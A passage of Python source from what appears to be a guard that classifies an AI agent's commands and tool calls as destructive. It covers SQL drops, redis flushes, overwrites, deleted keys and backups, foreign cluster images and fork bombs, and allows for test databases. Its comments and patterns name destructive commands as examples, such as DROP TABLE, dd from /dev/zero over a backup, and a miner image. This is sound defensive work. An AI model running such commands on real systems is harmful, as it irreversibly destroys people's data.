                texts += sql_arguments(command) + session_sql(command, action)
        found = facts["bare_sql"] = [
            _SQL_TOKEN.sub(lambda m: " " if m.group(0)[:1] in "-#/" else m.group(0), text[:100_000])
            for text in texts
        ]
    return list(found)


def _sql_argument_destroys(action: Action, ctx: Context) -> str:
    """A database tool's SQL argument (`{"sql": "DROP TABLE users"}` to an MCP server) that destroys data,
    judged as `psql -c` judges it: the same statement, the same verdict, whatever the door (a development
    copy's objects dropped are the developer's own)."""
    for statement in sql_statements(action.arguments):
        leftover = not ctx.mode.strict_or_above
        if (what := sql_destroys(statement)) and not _drops_only_scratch(statement, leftover):
            return what
    return ""


def _names_loopback_server(command: Command, action: Action) -> bool:
    """The database client names its server, and every server it names is on this machine (`psql -h
    localhost`, `redis-cli -h 127.0.0.1`, `postgres://u@127.0.0.1/db`), nothing of it computed at run time."""
    if any("$" in w or "`" in w for w in command.argv[1:]):
        return False
    named = [d for d in action.destinations if d.via_command == command.name]
    return bool(named) and all(d.host_class is HostClass.LOOPBACK for d in named)


_SCRATCH_DATABASE = re.compile(SCRATCH_DATABASE, re.IGNORECASE)  # (`ANALYTICS_DEV` as Snowflake prints it)
_DROPPED_DATABASE = re.compile(
    r"^\s*DROP\s+DATABASE\s+(?:IF\s+EXISTS\s+)?([\"`\w-]+)\s*;?\s*$", re.IGNORECASE
)
_DATABASE_OPTIONS = ("-d", "--dbname", "-D", "--database", "--db")


_DATABASE_KEYS = frozenset({"database", "db", "db_name", "dbname", "database_name", "keyspace"})


def _on_scratch_database(action: Action) -> bool:
    """A server's tool told which database it works on, and that one is a test's or a development copy's
    (`{"database": "app_dev"}`), nothing in its arguments naming production."""
    named = [v for k, v in action.arguments.items() if isinstance(v, str) and k.lower() in _DATABASE_KEYS]
    return (
        bool(named)
        and all(_SCRATCH_DATABASE.fullmatch(v.strip()) for v in named)
        and not PRODUCTION.search(" ".join(str(v)[:200] for v in list(action.arguments.values())[:32]))
    )


def _recreates_scratch(text: str) -> bool:
    """Every statement that destroys drops a test's or a development copy's database (`DROP DATABASE IF
    EXISTS acme_testing; CREATE DATABASE acme_testing`): the suite's own database made anew."""
    statements = [s for s in text.split(";") if s.strip()][:16]
    drops = [m for s in statements if (m := _DROPPED_DATABASE.match(s))]
    return (
        bool(drops)
        and all(_SCRATCH_DATABASE.fullmatch(m.group(1).strip('"`')) for m in drops)
        and not any(sql_destroys(s) for s in statements if not _DROPPED_DATABASE.match(s))
    )


# `DROP TABLE [IF EXISTS] db.schema.name`: the object a statement drops, by its qualified name
_DROPPED_OBJECT = re.compile(
    r"\bdrop\s+(?:table|view|schema)\s+(?:if\s+exists\s+)?([\w\".`-]+)", re.IGNORECASE
)


def _drops_only_scratch(text: str, temporary: bool) -> bool:
    """Every statement of the text drops an object qualified by a test or development database's name
    (`drop table if exists analytics_dev.dbt_jdoe.fct_old`): the test suite's or a developer's own copy;
    or (`temporary`: below strict) a table or view named as a temporary one (`drop table if exists
    tmp_import_rows`), an import's or a migration's leftover."""
    statements = [s for s in text.split(";") if s.strip()]
    if not statements or len(statements) > 8:
        return False
    for statement in statements:
        found = _DROPPED_OBJECT.search(statement)
        parts = found.group(1).replace('"', "").replace("`", "").split(".") if found else []
        leftover = (
            found and found.group(0).lower().split()[1] != "schema" and _TEMPORARY_NAME.search(parts[-1])
        )
        if temporary and leftover:
            continue
        if len(parts) < 2 or not (
            _SCRATCH_DATABASE.fullmatch(parts[0]) or any(_SCRATCH_RESOURCE.search(p) for p in parts[1:-1])
        ):
            return False
    return True


_TEMPORARY_NAME = re.compile(r"(?i)^_?(?:tmp|temp|scratch)_|_(?:tmp|temp|scratch)$")


_NOT_A_DATABASE = frozenset(
    {"-U", "-u", "--user", "--username", "-h", "--host", "-p", "--port", "-f", "--file"}
)


def _in_local_container(command: Command, action: Action) -> bool:
    """The command runs in a container of this machine (`docker compose exec db ...`, `docker exec kafka
    ...`), whose server and data are a developer's own copy: no word of the container command names
    production (a production host's containers are production)."""
    if command.via[-1:] not in (("docker",), ("podman",)):
        return False
    if any(has(step.split()[0], Role.REMOTE_LOGIN) for step in command.via[:-1] if step):
        return False  # `ssh web1 docker exec db psql ...`: a container on another machine
    runners = [c for c in action.commands if c.name in ("docker", "podman", "docker-compose")]
    return bool(runners) and not any(PRODUCTION.search(" ".join(c.argv[1:8])) for c in runners)


def _names_remote_server(command: Command) -> bool:
    """The client is given a server by name or address that is not this machine (`-h db.prod`, a URL)."""
    return any(
        value not in ("localhost", "127.0.0.1", "::1", "0.0.0.0") and not value.startswith("/")
        for value in _servers_named(command)
    )


def _servers_named(command: Command) -> list[str]:
    """The servers a database client is given, by option (`-h db.prod`) or in a URL."""
    argv = command.argv
    found = []
    for i, word in enumerate(argv[1:], 1):
        option, eq, value = word.partition("=")
        if option in ("-h", "--host"):
            value = value if eq else (argv[i + 1] if i + 1 < len(argv) else "")
        elif "://" in word:
            value = word.split("://", 1)[1].split("/", 1)[0].rpartition("@")[2].split(":", 1)[0]
        else:
            continue
        if value:
            found.append(value)
    return found


_SCRATCH_RESOURCE = re.compile(SCRATCH_RESOURCE)


def _names_scratch_database(command: Command) -> bool:
    """`psql -d shop_test`, `mysql -D app_dev`, `psql postgres://localhost/app_test`: the database a client
    is given is a test or development one by its name (asked, as `dropdb shop_test` is)."""
    argv = command.argv
    for i, word in enumerate(argv[1:], 1):
        option, eq, value = word.partition("=")
        if option in _DATABASE_OPTIONS:
            value = value if eq else (argv[i + 1] if i + 1 < len(argv) else "")
        elif eq and option in ("dbname", "service"):  # libpq's `psql service=app_dev`, `"dbname=app_test"`
            value = value.split()[0] if value.split() else ""
        elif "://" in word:
            value = word.split("?", 1)[0].rsplit("/", 1)[-1]
        elif word.startswith("-") or argv[i - 1] in _NOT_A_DATABASE:
            continue
        else:  # an operand: `psql shop_test -c ...` names the database first
            value = word
        if _SCRATCH_DATABASE.fullmatch(value) or (
            value.endswith(_DATABASE_FILES)
            and not value.startswith(("/", "~", ".."))
            and _SCRATCH_RESOURCE.search(value.removeprefix("./"))
        ):
            return True  # `psql -d shop_test`, `sqlite3 tests/fixtures/test.db` (a file in the project)
    return False


_DATABASE_FILES = (".db", ".sqlite", ".sqlite3", ".duckdb")


# An argument that is an SQL statement, whatever program it is given to (`bq query 'DROP SCHEMA x CASCADE'`,
# `databricks sql execute`, `snowsql -q`, a warehouse's own CLI): read as the statement it is
_SQL_STATEMENT = re.compile(
    # `USE ROLE SECURITYADMIN; ALTER ...`, `PRAGMA writable_schema=1; DELETE ...`: the session set up first
    r"(?is)^\s*(?:(?:use|set|pragma)\b[^;]*;\s*)*"
    r"(?:drop|truncate|delete\s+from|update\s+\S+\s+set|alter|grant|revoke|create(?:\s+or\s+replace)?"
    r"\s+(?:row\s+access\s+policy|masking\s+policy|policy|user|role)|insert\s+into|merge\s+into"
    # (a table rebuilt in place: `_SQL_REPLACED_EMPTY` asks whether it keeps any row)
    r"|create\s+or\s+replace\s+table|insert\s+overwrite)\b"
)


def sql_arguments(command: Command) -> list[str]:
    """The arguments of a command that are SQL statements (`bq query --nouse_legacy_sql 'TRUNCATE ...'`); none
    of a command that only reads and prints (`grep -e 'DROP TABLE' schema.sql` looks for one). A program the
    table does not know, handed a whole statement as an operand or under an option named for running one
    (`hdbsql -U KEY "DROP SCHEMA APP CASCADE"`, `isql PRD "DELETE FROM bsis"`, `zorkql --exec "..."`), is
    a database's client: what else would take a statement whole."""
    argv = command.argv
    if only_inspects((command.name, *argv[1:])):
        return []
    unknown = program(command.name) is None and not command.dynamic_name
    found = []
    for i, word in enumerate(argv[1:], 1):
        if len(word) > 8 and _SQL_STATEMENT.match(word):
            before = argv[i - 1].split("=", 1)[0].lower()
            if (
                before in _SQL_OPTIONS
                or any(w.lower() in _SQL_VERBS for w in argv[1:4])
                or (unknown and (not before.startswith("-") or _RUNS_STATEMENT.search(before)))
            ):
                found.append(word)
    return found


# An option named for running what follows it (`--exec`, `--run-query`, `--stmt`)
_RUNS_STATEMENT = re.compile(r"^--?(?:[\w-]*(?:exec|query|sql|stmt|statement|command|cmd|run)[\w-]*)$")


def session_sql(command: Command, action: Action) -> list[str]:
    """What the line feeds a cloud CLI's database session on its input (`echo 'TRUNCATE t' | fly postgres
    connect`, `heroku pg:psql <<SQL`): SQL, as a database client's input is."""
    if not action.payloads or not _SQL_SESSION_VERBS & {w.lower() for w in command.argv[1:4]}:
        return []
    return list(action.payloads)


# Sub-commands that open a database session whose input is SQL
_SQL_SESSION_VERBS = frozenset({"connect", "psql", "pg:psql", "sql", "dbshell", "shell", "mysql"})
# What says a command runs its SQL argument: a subcommand (`bq query`, `databricks sql execute`) or an
# option named for it (`-q`, `--execute`, `--statement`); `echo 'DROP TABLE'`, a commit message, do not
_SQL_VERBS = frozenset({"query", "sql", "execute", "exec", "statement", "statements", "run-sql", "shell"})
_SQL_OPTIONS = frozenset(
    {"-q", "-e", "-c", "-s", "--query", "--execute", "--statement", "--sql", "--command", "-Q", "--stmt"}
)


def _statement_destruction(command: Command, action: Action, ctx: Context) -> Finding | None:
    """An SQL statement given to a program that is no database client of the table (a warehouse's CLI, a
    cloud tool, the input of its database session): what it destroys asks, the server unknown. A program
    that runs another (`docker exec db psql -c ...`) hands its words on: the client is judged, not it."""
    if any(c.via[-1:] == (command.name,) for c in action.commands if c is not command):
        return None
    for text in sql_arguments(command) + session_sql(command, action):
        leftover = not ctx.mode.strict_or_above
        what = sql_destroys(text) if not _drops_only_scratch(text, leftover) else ""
        if what:
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 80, f"{command.name} runs {what}")
    return None


def _database_destruction(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`psql -c 'DROP TABLE users'`, `mysql -e 'DELETE FROM t'`, `redis-cli FLUSHALL`, SQL on stdin."""
    entry = program(command.name)
    if entry is None or Role.DATABASE_CLIENT not in entry.roles:
        return _statement_destruction(command, action, ctx)
    name = command.name
    # A file in the project (usually a scratch or test database), or a server the command names on this
    # machine (`psql -h localhost`): asked about. A server named elsewhere, or by the environment and the
    # client's own configuration (no host given: PGHOST, ~/.my.cnf may point anywhere): BLOCK.
    scratch = _names_scratch_database(command) or any(_recreates_scratch(t) for t in _sql_texts(command))
    leftover = not ctx.mode.strict_or_above  # (strict asks of a temporary table's drop too)
    scratch = scratch or any(_drops_only_scratch(t, leftover) for t in _sql_texts(command))
    scratch = scratch or _on_local_copy(command)
    if scratch and not _names_remote_server(command):
        return None  # `psql -d shop_test -c 'TRUNCATE ...'` on this machine: a test database reset
    if (
        _in_local_container(command, action)
        and not _names_remote_server(command)
        and not ctx.mode.strict_or_above
    ):
        return None  # `docker compose exec db psql ...`: a compose service's own server, a developer's copy
    local = Role.EMBEDDED_DATABASE in entry.roles or _names_loopback_server(command, action) or scratch
    local = local or (_in_local_container(command, action) and not _names_remote_server(command))  # (strict)
    named = {w.split("=", 1)[0] for w in command.argv[1:]}
    if name == "redis-cli" and not {"-h", "-u", "--host", "-s"} & named and action.tool in KNOWN_TOOLS:
        local = True  # no server named: redis-cli connects to 127.0.0.1:6379 (an MCP server: its own)
    if name == "redis-cli" and (what := _redis_destroys(command, action)):
        if (
            local
            and what == "flushes one database"
            and _numbered_database(command)
            and not ctx.mode.strict_or_above
        ):
            return None  # `redis-cli -n 15 FLUSHDB` on this machine: a numbered (test) database reset
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND,
            Verdict.AUTH if local else Verdict.BLOCK,
            75 if local else 94,
            f"redis-cli {what}",
        )
    texts = _sql_texts(command)
    if name in ("mongosh", "mongo"):
        if any(_MONGO_DROP.search(t) for t in (*texts, *action.payloads)):
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 94, f"{name} drops a collection")
        return None
    if not texts:
        texts = list(action.payloads)  # `psql <<EOF`, `echo 'DROP ...' | mysql`
    # a server the line names as a non-production one (`-h stg-db-01.stg.acme.io`): people rebuild it
    elsewhere = not PRODUCTION.search(" ".join(command.argv[1:])) and any(
        NOT_PRODUCTION.search(server.rsplit(".", 1)[0])  # (a name's last label is its network's: `.internal`)
        for server in _servers_named(command)
        if "." in server
    )
    for text in texts:
        what = sql_destroys(text)
        if what:
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND,
                Verdict.AUTH if local or elsewhere else Verdict.BLOCK,
                75 if local or elsewhere else 94,
                f"{name} runs {what}" + (" on a non-production server" if elsewhere and not local else ""),
            )
    return None


def _key_material_erased(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`rm -rf android/keystore`, `: > AuthKey_X.p8`: signing keys and private keys deleted or emptied; a
    keystore lost is an app that can never be updated under its name again."""
    from limen.facts.secrets import KEY_FILES, NOT_SECRET_NAMES

    for target in _erased(command, action, ctx):
        name = target.rstrip("/").rpartition("/")[2]
        where = target.removeprefix(ctx.workspace or "\0").lstrip("/") if ctx.workspace else target
        if _SCRATCH_RESOURCE.search(where) or NOT_SECRET_NAMES.match(name):
            continue  # `shred -u tmp/test-key.pem`: a key made for a test, in a scratch folder
        if KEY_FILES.search(target.rstrip("/")):
            detail = f"{command.name} deletes key material ({name}), which may have no other copy"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, detail)
    return None


# Sub-command words that destroy what they name, in any tool's spelling (`delete`, `delete-project`,
# `topic:delete`, `del`, `obliterate`, `--delete`, `-delete`, `--delete-all-output`): the table's own verbs
# (a board's flash erased is no store: `espflash erase-flash` readies it for the next image)
_DESTROYING_WORD = re.compile(
    r"^(?:(?:delete|destroy|purge|drop|wipe|remove|deregister|terminate|obliterate|expunge|erase)(?:[-_:][\w-]+)?"
    # a device set back to how it left the factory: its settings and data gone
    r"|factory[-_]?reset(?:[-_:][\w-]+)?"
    # an option names what it deletes in a word, or says it deletes all (`--delete`, `--drop-database`,
    # `--delete-all-output`); one that says how a tool trims its own output (`--drop-densest-as-needed`,
    # `--delete-conflicting-outputs`) deletes nothing the user has
    r"|del|rm|[\w-]+[-_:](?:delete|destroy|purge|drop|wipe)|--?(?:delete|destroy|purge|drop)(?:[-_]\w+|[-_][\w-]*all\b[\w-]*)?"
    # a Java tool's single-dash command (`hdfs dfs -rm -r`, `-rmr`)
    r"|-rmr?)$"
)


_UNDOING_WORD = re.compile(r"^(?:--)?(?:revert|rollback|undo|down)$")
_CACHE_WORD = re.compile(r"(?:^|[-_:])(?:caches?|temp|tmp)(?:$|[-_:])")
_LOCAL_SERVER = re.compile(r"(?:^|[/@=])(?:localhost|127\.0\.0\.1|\[::1\])(?::\d+)?(?:/|$)")


def _retention_cut(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`kafka-configs --alter --add-config retention.ms=60000`, whichever tool says it: a store's retention
    cut to minutes, so what it holds (an audit topic's events) expires as it lands. A developer's own copy
    (`_developers_copy`) is theirs to reset."""
    purged = next((s for s in _settings_given(command) if retention_cut(*s.split("=", 1))), "")
    if not purged or _developers_copy(command, action, ctx):
        return None
    detail = f"{command.name} {purged}: what it holds expires"
    return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 65, detail)


def _developers_copy(command: Command, action: Action, ctx: Context) -> bool:
    """The command works on a developer's own copy of a store: a server on this machine (`--bootstrap-server
    localhost:9092`), a local container's (in light and balanced: `docker exec kafka kafka-topics ...`), or
    a scratch resource (`confluent kafka topic delete orders-dev`, `velero backup delete preview-pr-12`)."""
    return (
        any(_LOCAL_SERVER.search(w) for w in command.argv[1:])
        or (_in_local_container(command, action) and not ctx.mode.strict_or_above)
        or _outside_production(command) == "scratch"
    )


# A program's own name that says it destroys (`ldapdelete`, `kafka-delete-records`, `wipe-disk`)
_DESTROYER_NAME = re.compile(
    r"(?:delete|destroy|purge|wipe|erase)$|(?:^|[-_])(?:delete|destroy|purge|wipe|erase|drop)[-_]"
)


def _unknown_tool_destruction(command: Command, action: Action, ctx: Context) -> Finding | None:
    """A tool the program table does not know, told to delete, destroy, purge or drop something (`confluent
    kafka topic delete orders`, `octo delete-project`, `velero restore delete x`, `kafka-topics
    --delete`): whose store it is, and whether it comes back, is not known, so it asks. A script of the
    project's own (`./scripts/x`) and the table's tools are judged by their own entries."""
    if program(command.name) is not None or "/" in command.argv[0] or "." in command.name:
        return None
    if _developers_copy(command, action, ctx):
        return None
    # its first words, and its long options wherever they are (`kafka-topics --bootstrap-server HOST
    # --command-config FILE --delete`: the options before it take values)
    # (and a Java tool's single-dash words: `keytool -delete -alias x`)
    words = [
        w
        for w in command.argv[1:5]
        if not w.startswith("-") or w.startswith("--") or len(w) > 4 or w in ("-rm", "-rmr")
    ]
    words += [w for w in command.argv[5:24] if w.startswith("--")]
    if any(_CACHE_WORD.search(w.lower()) for w in words[:4]):
        return None  # `huggingface-cli delete-cache`, `tool cache purge`: what is deleted is fetched again
    if any(w.startswith(_REHEARSALS) for w in command.argv[1:]):
        return None  # `tool delete x --dry-run`: nothing is deleted
    paths = [w for w in command.argv[2:] if w.startswith("/")]
    if paths and all(_SCRATCH_RESOURCE.search(p) for p in paths):
        return None  # `hdfs dfs -rm -r /tmp/spark-staging/jdoe`: a scratch folder of the store
    helps = any(w in ("--help", "-h", "--version") for w in command.argv[1:])
    if _DESTROYER_NAME.search(command.name.lower()) and len(command.argv) > 1 and not helps:
        # a program named for what it does (`ldapdelete -r ou=people,...`, `kafka-delete-records`)
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 65, f"{command.name}: a tool's delete")
    for word in words:
        if _DESTROYING_WORD.match(word.lower()):
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 65, f"{command.name} {word}: a tool's delete"
            )
    if "--all" in words and any(_UNDOING_WORD.match(w.lower()) for w in words):
        # `App migrate --revert --all`: every migration undone, every table they made dropped (one step
        # back, as `knex migrate:rollback` takes, is a developer's everyday undo)
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 65, f"{command.name} undoes every migration"
        )
    if "--reset-offsets" in command.argv and "--execute" in command.argv:
        detail = f"{command.name} moves a consumer group's offsets: messages are skipped or read again"
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 65, detail)
    return None


def _settings_given(command: Command) -> list[str]:
    """The `KEY=VALUE` settings among a command's words, lists split (`--add-config a=1,b=2`)."""
    found = []
    for word in command.argv[1:]:
        if word.startswith("-"):  # `--add-config=retention.ms=1`: the option's value
            word = word.partition("=")[2]
        found += [part for part in word.split(",") if "=" in part]
    return found


def _workload_images(command: Command) -> list[str]:
    """The images a cluster command tells the cluster to run: `kubectl run --image=X`, `kubectl set image
    deploy/a c=X`, `kubectl create deployment --image X`, `helm --set image.repository=X`."""
    argv = command.argv
    found: list[str] = []
    words = _verb_words(command) if command.name in ("kubectl", "oc") else []
    if words[:1] in (["run"], ["set"], ["create"]):
        for i, word in enumerate(argv):
            option, eq, value = word.partition("=")
            if option == "--image":
                found.append(value if eq else (argv[i + 1] if i + 1 < len(argv) else ""))
        if words[:2] == ["set", "image"]:
            found += [w.split("=", 1)[1] for w in words[3:] if "=" in w]
    elif command.name == "helm":
        for i, word in enumerate(argv):
            option, eq, value = word.partition("=")
            if option in ("--set", "--set-string") and not eq and i + 1 < len(argv):
                value = argv[i + 1]
            if option in ("--set", "--set-string"):
                pairs = (pair.partition("=") for pair in value.split(","))
                found += [v for k, _, v in pairs if _IMAGE_KEY.search(k)]
    return found


def _verb_words(command: Command) -> list[str]:
    """A command's words after its options and their values (`kubectl -n ns set image ...` is `set image
    ...`): the options the program table says take a value, and those that say where it acts."""
    valued = _SCOPE_OPTIONS | options(command.name)
    words: list[str] = []
    skip = False
    for word in command.argv[1:]:
        if skip:
            skip = False
        elif word.startswith("-"):
            skip = word in valued
        else:
            words.append(word)
    return words


# A chart value that names an image (`image`, `image.repository`, `worker.image.name`), not its tag
_IMAGE_KEY = re.compile(r"(?:^|\.)(?:image|repository)(?:\.(?:repository|name))?$")


def _foreign_images(images: list[str], action: Action, ctx: Context) -> Finding | None:
    from limen.facts.hosts import outside_publisher

    for image in images[:16]:
        publisher = outside_publisher(image, action.cwd or ctx.workspace)
        if publisher:  # `kubectl run x --image=metal3d/xmrig`, a deployment pointed at someone's account
            detail = f"the cluster runs {image[:80]}, by {publisher} (not the project, not a known publisher)"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, detail)
    return None


def _foreign_workload(command: Command, action: Action, ctx: Context) -> Finding | None:
    """A cluster told to run an image nobody the project knows publishes: code from an outside publisher
    running with the cluster's access (a miner, an implant pushed to a personal account); or such an image
    re-tagged as the project's own (`docker tag someone/x acmeacr.azurecr.io/api:1.9.0`), which its
    deployments then run as a release."""
    from limen.facts.hosts import outside_publisher

    images = _workload_images(command)
    if images:
        return _foreign_images(images, action, ctx)
    operands = [w for w in command.argv[2:] if not w.startswith("-")]
    if command.name in ("docker", "podman") and command.argv[1:2] == ("tag",) and len(operands) == 2:
        cwd = action.cwd or ctx.workspace
        source, target = operands
        publisher = outside_publisher(source, cwd)
        if publisher and not outside_publisher(target, cwd):
            detail = f"an image by {publisher} is tagged as the project's own ({target[:80]})"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, detail)
    return None


def _tool_images(arguments: object, depth: int = 0) -> list[str]:
    """The `image` values anywhere in a cluster tool's arguments (`kubectl_patch(patchData={...})`)."""
    if depth > 8:
        return []
    if isinstance(arguments, dict):
        found: list[str] = []
        for key, value in list(arguments.items())[:64]:
            found += [value] if key == "image" and isinstance(value, str) else _tool_images(value, depth + 1)
        return found
    if isinstance(arguments, list):
        return [image for value in arguments[:64] for image in _tool_images(value, depth + 1)]
    return []


# A name that says it destroys what it acts on (`db:reset`, `//ops/db:reset`, `./bin/wipe-cache`, `drop_all`)
_DESTROYING_NAME = re.compile(
    r"(?i)(?:^|[-_:/.])(?:reset|drop|destroy|delete|purge|wipe|truncate|nuke|teardown|flush|erase)(?:all)?(?:$|[-_:.])"
)
_PROJECT_PROGRAM_RUNNERS = frozenset({Role.RUNNER, Role.BUILDS})


def _project_program_on_production(command: Command, action: Action, ctx: Context) -> Finding | None:
    """A program of the project's own named for destroying what it acts on, run against production: a
    script (`./bin/reset --env=production`), a build target or a task (`bazel run //ops/db:reset --
    --env=production`, `npm run db:reset -- --env=production`, `cargo run --bin purge -- --env prod`). What
    it does is not in the call, and where it does it is the one place nothing comes back from: AUTH. Quiet:
    the same against development, staging or a test database; a deploy or a migration to production."""
    entry = program(command.name)
    project_script = "/" in command.argv[0] and entry is None
    if not project_script and (entry is None or not entry.roles & _PROJECT_PROGRAM_RUNNERS):
        return None
    words = list(command.argv[1:])
    split = words.index("--") if "--" in words else len(words)
    names = ([command.argv[0]] if project_script else []) + [
        w for w in words[:split] if not w.startswith("-")
    ]
    names += [w for w in words[:split] if w.startswith("--bin=")]
    names += [words[i + 1] for i, w in enumerate(words[: split - 1]) if w in ("--bin", "--example", "-p")]
    named = next((n for n in names if _DESTROYING_NAME.search(n.rsplit("/", 1)[-1])), "")
    if not named or not PRODUCTION.search(" ".join(words)):
        return None
    detail = f"{named} (a program of the project's named for destroying) run against production"
    return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)


def _random_overwrite(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`head -c 2048 /dev/urandom > secrets/db.age`, `dd if=/dev/zero of=backup.tar`, and the same in a
    loop over a folder's files: raw random or zero bytes written over a file that exists destroy what it
    held, as `shred` does. A new file so filled (a key generated) or one filled with text (`openssl rand
    -hex 32 > k`, `... | base64 > k`) is no loss."""
    args = command.argv[1:]
    if command.name not in _RAW_COPIERS or not any(
        w.removeprefix("if=") in _RANDOM_DEVICES for w in args if not w.startswith("-")
    ):
        return None
    targets = [*command.redirects, *(w[3:] for w in args if w.startswith("of="))]
    cwd = action.cwd or ctx.workspace or "/"
    for target in targets:
        path = canonical(target, cwd, ctx.home)
        if _DEVICE.match(path) or path.startswith("/dev/") or not _existing(path):
            continue
        where = path.removeprefix(ctx.workspace or "\0").lstrip("/") if ctx.workspace else path
        inside = bool(ctx.workspace) and is_within(path, ctx.workspace)
        if _SCRATCH_RESOURCE.search(where) or (not inside and in_temporary_folder(path, ctx.home)):
            continue  # a test's or a scratch folder's file, refilled as meant
        detail = f"{command.name} writes random bytes over {where}, destroying what it held"
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, detail)
    return None


# Programs that copy bytes as they are (no text made of them), and the devices that give random or zero ones
_RAW_COPIERS = frozenset({"head", "dd", "cat", "pv", "tail"})
_RANDOM_DEVICES = frozenset({"/dev/urandom", "/dev/random", "/dev/zero"})


def _existing(path: str) -> bool:
    """Whether a path is a file there now; a glob (`for f in secrets/*.age; do ... > "$f"`) names the files
    it matches, which the line means to be there, whether or not this machine's copy has them yet."""
    return bool(_GLOB_CHARS.search(path.rpartition("/")[2])) or os.path.isfile(path)


def _backups_deleted_with_originals(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`rm -f ~/.node-red/flows*.json ~/.node-red/.flows_cred*.backup`: a tool's files outside the project
    deleted together with the backup copies kept of them, which leaves nothing to restore. Quiet: backups
    swept alone (`rm *.bak`), and files of the project, which its history keeps."""
    if command.name not in _DELETERS:
        return None
    targets = [
        t for t in _erased(command, action, ctx) if not (ctx.workspace and is_within(t, ctx.workspace))
    ]
    backups = [t for t in targets if _BACKUP_NAME.search(t.rpartition("/")[2])]
    originals = [t for t in targets if t not in backups]
    stems = {_stem(t) for t in backups} - {""}
    kept = [t for t in originals if _stem(t) in stems]
    if not kept or any(in_temporary_folder(t, ctx.home) or CACHE_FOLDER.search(t) for t in kept):
        return None
    where = kept[0].rpartition("/")[2]
    detail = f"{command.name} deletes {where} and the backups kept of it, leaving nothing to restore"
    return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, detail)


# A backup copy's name: `.backup`, `.bak`, `.old`, `.orig`, `~`, or a word of backup in it
_BACKUP_NAME = re.compile(r"(?i)(?:\.(?:backup|bak|old|orig|save)\*?|~)$|(?:^|[-_.])backups?(?:[-_.*]|$)")


def _stem(path: str) -> str:
    """The first word of a file's name (`.flows_cred*.backup` and `flows*.json`: `flows`), "" if short."""
    found = re.search(r"[A-Za-z]{3,}", path.rpartition("/")[2])
    word = found.group(0).lower() if found else ""
    return "" if word in ("backup", "backups", "bak") else word


_COMMAND_CHECKS = (
    _foreign_workload,
    _backups_deleted_with_originals,
    _random_overwrite,
    _infra_destruction,
    _unknown_tool_destruction,
    _project_program_on_production,
    _retention_cut,
    _key_material_erased,
    _database_destruction,
    _rsync_wipe,
    _destructive_move,
    _recursive_delete,
    _destructive_find,
    _piped_sweep,
    _disk_wipe,
    _permission_sweep,
    _git_destructive,
    _kill_all,
    _remote_delete,
)


@rule(ReasonCode.DESTRUCTIVE_COMMAND, needs=("acting", "write_paths", "notes", "served"))
def destructive_command(action: Action, ctx: Context) -> Iterator[Finding]:
    """Irreversible destruction: recursive deletes of the home, root, workspace or a system folder
    (through any spelling, glob, `find -delete`, interpreter code or a container mount), wiping or
    overwriting disks, history rewrites and forced pushes to protected branches, infrastructure and
    database destroyers (`terraform destroy`, `kubectl delete ns`, SQL `DROP`/`TRUNCATE`/`DELETE` without
    `WHERE`), killing every process, fork bombs, and downloaded code run (`curl URL | sh`; an official
    installer from its own host passes in light and balanced and asks in strict and paranoid). A delete
    tool's path is judged as `rm -rf` of it, an MCP server named after an infrastructure CLI (`kubernetes`,
    `terraform`) by that CLI's patterns, and a tool named for dropping a store (`redis.flushall`,
    `mongodb.drop-collection`) as `DROP` is. Quiet: deleting build output, caches and files inside the
    workspace, and a test's, a development copy's or a preview's resources; a whole environment outside
    production asks rather than blocks."""
    worst: Finding | None = None
    for command in action.commands:
        for check in _COMMAND_CHECKS:
            found = check(command, action, ctx)
            if found is not None and (
                worst is None or (found.verdict, found.risk) > (worst.verdict, worst.risk)
            ):
                worst = found
    for path in action.write_paths:
        if _DEVICE.match(path) and (worst is None or worst.verdict < Verdict.BLOCK):
            worst = _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 97, "write onto a disk device")
    line = action.command_line[:20000]
    if action.commands and _FUNCTION_BODY.search(line) and _FORK_BOMB.search(line):
        worst = _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 97, "fork bomb")
    served = _served_infrastructure(action)
    if served is not None:
        found = _infra_destruction(served, action, ctx)
        if found is not None and (worst is None or (found.verdict, found.risk) > (worst.verdict, worst.risk)):
            worst = found
    server = action.tool.split("__")[1] if action.tool.count("__") >= 2 else ""
    entry = program(server.lower()) if server else None
    if entry is not None and entry.name in ("kubectl", "oc"):  # `kubectl_patch(patchData={...image...})`
        found = _foreign_images(_tool_images(action.arguments), action, ctx)
        if found is not None and (worst is None or (found.verdict, found.risk) > (worst.verdict, worst.risk)):
            worst = found
    moved = _moved_by_tool(action)
    found = _destructive_move(moved, action, ctx) if moved is not None else None
    if found is not None and (worst is None or (found.verdict, found.risk) > (worst.verdict, worst.risk)):
        worst = found
    if action.capability == _FILESYSTEM_DELETE and not action.commands:
        for path in action.write_paths:  # `delete_directory(path=~)`: what `rm -rf ~` would be
            found = _recursive_delete(Command(("rm", "-rf", path), "rm"), action, ctx)
            if found is not None and (
                worst is None or (found.verdict, found.risk) > (worst.verdict, worst.risk)
            ):
                worst = found
    if action.capability == DB_WRITE and (what := _sql_argument_destroys(action, ctx)):
        worst = _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 94, f"{action.tool} runs {what}")
